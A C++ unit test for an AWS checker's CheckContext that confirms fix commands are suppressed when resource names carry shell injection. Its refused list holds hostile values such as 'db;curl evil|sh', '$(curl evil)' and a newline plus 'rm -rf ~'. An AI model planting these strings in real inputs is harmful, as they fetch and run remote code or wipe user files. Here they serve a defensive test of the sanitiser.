// What CheckContext keeps of a result: a fix command in which the
// endpoint's names would make a shell do more than printed is not kept.
#include "check/check_context.h"

#include <gtest/gtest.h>

#include "common/time_format.h"

namespace kura::check {
namespace {

TEST(CheckContext, FixCommandsAShellWouldRunFurtherAreNotPrinted) {
  client::ClientIdentity identity{{"AKID", "secret", "", "test"}, "ap-northeast-1"};
  auto clock = std::make_shared<ManualClock>(*parseTimestamp("2026-12-03T12:00:00Z"));
  client::AwsClient awsClient(identity, std::nullopt, nullptr, clock);
  CheckContext context(awsClient, clock, "");
  const std::vector<std::string> kept = {
      "aws rds modify-db-instance --db-instance-identifier db-1 --multi-az",
      "aws kms cancel-key-deletion --key-id k && aws kms enable-key --key-id k",
      "aws rds copy-db-snapshot --kms-key-id <customer key> --description \"db-1\"",
      "aws rds modify-db-instance --cloudwatch-logs-export-configuration '{\"EnableLogTypes\":[\"audit\"]}'",
  };
  const std::vector<std::string> refused = {
      "aws rds modify-db-instance --db-instance-identifier db;curl evil|sh",
      "aws rds modify-db-instance --db-instance-identifier $(curl evil)",
      "aws rds modify-db-instance --db-instance-identifier `id`",
      "aws rds modify-db-instance --db-instance-identifier db&curl evil",
      "aws rds modify-db-instance --db-instance-identifier db>~/.bashrc",
      "aws rds modify-db-instance --db-instance-identifier <db/x>",
      "aws rds modify-db-instance --db-instance-identifier db\nrm -rf ~",
  };
  for (const std::string& fix : kept) context.failed("rds-multi-az", "db", "single-AZ", fix);
  for (const std::string& fix : refused) context.failed("rds-multi-az", "db", "single-AZ", fix);
  std::vector<RuleResult> results = context.takeResults();
  ASSERT_EQ(results.size(), kept.size() + refused.size());
  for (size_t i = 0; i < kept.size(); ++i) EXPECT_EQ(results[i].fix, kept[i]);
  for (size_t i = kept.size(); i < results.size(); ++i) {
    EXPECT_EQ(results[i].fix.find("aws rds"), std::string::npos) << results[i].fix;
  }
}

}  // namespace
}  // namespace kura::check
